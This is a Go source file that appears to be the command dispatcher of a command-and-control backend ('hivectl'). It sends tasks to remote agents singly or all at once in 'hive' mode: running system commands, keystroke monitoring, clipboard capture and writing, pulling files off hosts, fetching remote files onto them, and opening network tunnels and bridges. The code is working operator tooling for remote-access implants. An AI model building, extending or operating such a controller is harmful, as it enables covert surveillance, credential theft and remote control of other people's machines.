package services

import (
	"context"
	"errors"
	"fmt"
	"strings"

	"github.com/hivectl/backend/internal/core/ports"
	"github.com/hivectl/backend/internal/domain"
	"github.com/hivectl/backend/internal/infrastructure/logger"
)

const hivePrefix = "hive "

type dispatcher struct {
	agents       ports.AgentService
	tasks        ports.TaskService
	fleet        ports.FleetService
	bus          ports.EventBus
	logger       *logger.Logger
	serverPrompt string
}

type DispatcherConfig struct {
	Agents       ports.AgentService
	Tasks        ports.TaskService
	Fleet        ports.FleetService
	Bus          ports.EventBus
	Logger       *logger.Logger
	ServerPrompt string
}

func NewDispatcher(cfg DispatcherConfig) ports.CommandDispatcher {
	return &dispatcher{
		agents:       cfg.Agents,
		tasks:        cfg.Tasks,
		fleet:        cfg.Fleet,
		bus:          cfg.Bus,
		logger:       cfg.Logger,
		serverPrompt: cfg.ServerPrompt,
	}
}

// Dispatch runs one line of console input typed by actor on the console of
// agentID. With the "hive" prefix the command runs on every agent. Command
// failures are reported on the console; only store errors are returned.
func (d *dispatcher) Dispatch(ctx context.Context, actor, agentID, input string) ([]*domain.Task, error) {
	input = strings.TrimSpace(input)
	if input == "" {
		return nil, nil
	}

	var targets []domain.Agent
	hive := strings.HasPrefix(input, hivePrefix)
	if hive {
		input = strings.TrimSpace(input[len(hivePrefix):])
		agents, err := d.agents.List(ctx)
		if err != nil {
			return nil, err
		}
		targets = agents
		d.console(ctx, agentID, d.serverPrompt,
			fmt.Sprintf("%d agents selected (hive mode) for command: %s", len(targets), input))
	} else {
		agent, err := d.agents.Get(ctx, agentID)
		if err != nil {
			return nil, err
		}
		targets = []domain.Agent{*agent}
	}

	cmd := ParseCommand(input)
	d.logger.Infow("console_command", "actor", actor, "agent_id", agentID, "hive", hive, "targets", len(targets), "command", fmt.Sprintf("%T", cmd))

	var created []*domain.Task
	for i := range targets {
		agent := &targets[i]
		if !hive {
			d.console(ctx, agent.ID, actor, input)
		}
		task, err := d.execute(ctx, actor, agent, cmd)
		if err != nil {
			if !isConsoleError(err) {
				return created, err
			}
			d.console(ctx, agent.ID, d.serverPrompt, consoleMessage(err))
			continue
		}
		if task != nil {
			created = append(created, task)
		}
	}
	return created, nil
}

func (d *dispatcher) execute(ctx context.Context, actor string, agent *domain.Agent, cmd Command) (*domain.Task, error) {
	queue := func(kind domain.TaskKind, payload domain.JSONB, hook domain.CompletionHook) (*domain.Task, error) {
		return d.tasks.CreateTask(ctx, ports.CreateTaskInput{
			Owner:      actor,
			AgentID:    agent.ID,
			Kind:       kind,
			Payload:    payload,
			OnComplete: hook,
		})
	}

	switch c := cmd.(type) {
	case HelpCommand:
		d.console(ctx, agent.ID, "", HelpPage(agent.AgentType))
	case SystemCommand:
		return queue(domain.KindSystem, domain.JSONB{"cmd": c.Cmd}, domain.HookNone)
	case FreezeCommand:
		_, err := d.agents.Freeze(ctx, agent.ID, actor)
		return nil, err
	case UnfreezeCommand:
		_, err := d.agents.Unfreeze(ctx, agent.ID, actor)
		return nil, err
	case DeleteTaskCommand:
		return nil, d.tasks.DeleteTask(ctx, agent.ID, c.TaskID, actor)
	case DeleteAgentCommand:
		return nil, d.fleet.RemoveAgent(ctx, agent.ID, actor)
	case DownloadCommand:
		return queue(domain.KindDownload, domain.JSONB{"file": c.File}, domain.HookNone)
	case WriteDirCommand:
		return queue(domain.KindWriteDir, domain.JSONB{"dir": c.Dir}, domain.HookNone)
	case KeymonCommand:
		return queue(domain.KindKeymon, domain.JSONB{"duration": c.Duration}, domain.HookNone)
	case DelayCommand:
		return queue(domain.KindDelay, domain.JSONB{"delay": c.Delay}, domain.HookApplyDelay)
	case CdCommand:
		return queue(domain.KindCd, domain.JSONB{"dir": c.Dir}, domain.HookApplyWorkingDirectory)
	case TunnelCommand:
		return queue(domain.KindTunnel, domain.JSONB{
			"lhost": c.LocalHost, "lport": c.LocalPort,
			"rhost": c.RemoteHost, "rport": c.RemotePort,
		}, domain.HookNone)
	case BridgeCommand:
		return queue(domain.KindBridge, domain.JSONB{
			"host1": c.Host1, "port1": c.Port1,
			"host2": c.Host2, "port2": c.Port2,
		}, domain.HookNone)
	case TasksCommand:
		return nil, d.listRunning(ctx, agent.ID)
	case KillCommand:
		target, err := d.tasks.GetTask(ctx, c.TaskID)
		if err != nil {
			return nil, err
		}
		if target.AgentID != agent.ID {
			return nil, ErrTaskNotFound
		}
		if !target.Running() {
			return nil, ErrTaskNotRunning
		}
		return queue(domain.KindKill, domain.JSONB{"uid": target.ID}, domain.HookNone)
	case WebloadCommand:
		return queue(domain.KindWebload, domain.JSONB{"url": c.URL, "file": c.File}, domain.HookNone)
	case ClipReadCommand:
		return queue(domain.KindClipRead, nil, domain.HookNone)
	case ClipWriteCommand:
		return queue(domain.KindClipWrite, domain.JSONB{"text": c.Text}, domain.HookNone)
	case AbortCommand:
		return queue(domain.KindAbort, nil, domain.HookNone)
	case InvalidCommand:
		d.console(ctx, agent.ID, d.serverPrompt, c.Message)
	case UnknownCommand:
		d.console(ctx, agent.ID, d.serverPrompt, "Unknown command: "+c.Input)
	}
	return nil, nil
}

func (d *dispatcher) listRunning(ctx context.Context, agentID string) error {
	tasks, err := d.tasks.GetForAgent(ctx, agentID)
	if err != nil {
		return err
	}

	var b strings.Builder
	// Oldest first.
	for i := len(tasks) - 1; i >= 0; i-- {
		if tasks[i].Running() {
			fmt.Fprintf(&b, " > %s - %s\n", tasks[i].ID, tasks[i].Kind)
		}
	}
	msg := b.String()
	if msg == "" {
		msg = "No running tasks at the moment!"
	}
	d.console(ctx, agentID, "", msg)
	return nil
}

func (d *dispatcher) console(ctx context.Context, agentID, prompt, msg string) {
	publishConsole(ctx, d.bus, agentID, prompt, msg)
}

func isConsoleError(err error) bool {
	return errors.Is(err, ErrNotFound) ||
		errors.Is(err, ErrInvalidState) ||
		errors.Is(err, ErrValidation) ||
		errors.Is(err, ErrInvalidTask)
}

func consoleMessage(err error) string {
	switch {
	case errors.Is(err, ErrTaskNotFound):
		return "Invalid task!"
	case errors.Is(err, ErrTaskNotRunning):
		return "Task already completed, or not yet received by agent!"
	case errors.Is(err, ErrAgentAlreadyFrozen):
		return "Agent is already frozen!"
	case errors.Is(err, ErrAgentNotFrozen):
		return "Agent is not frozen!"
	case errors.Is(err, ErrAgentNotFound):
		return "Invalid agent!"
	}
	return err.Error()
}
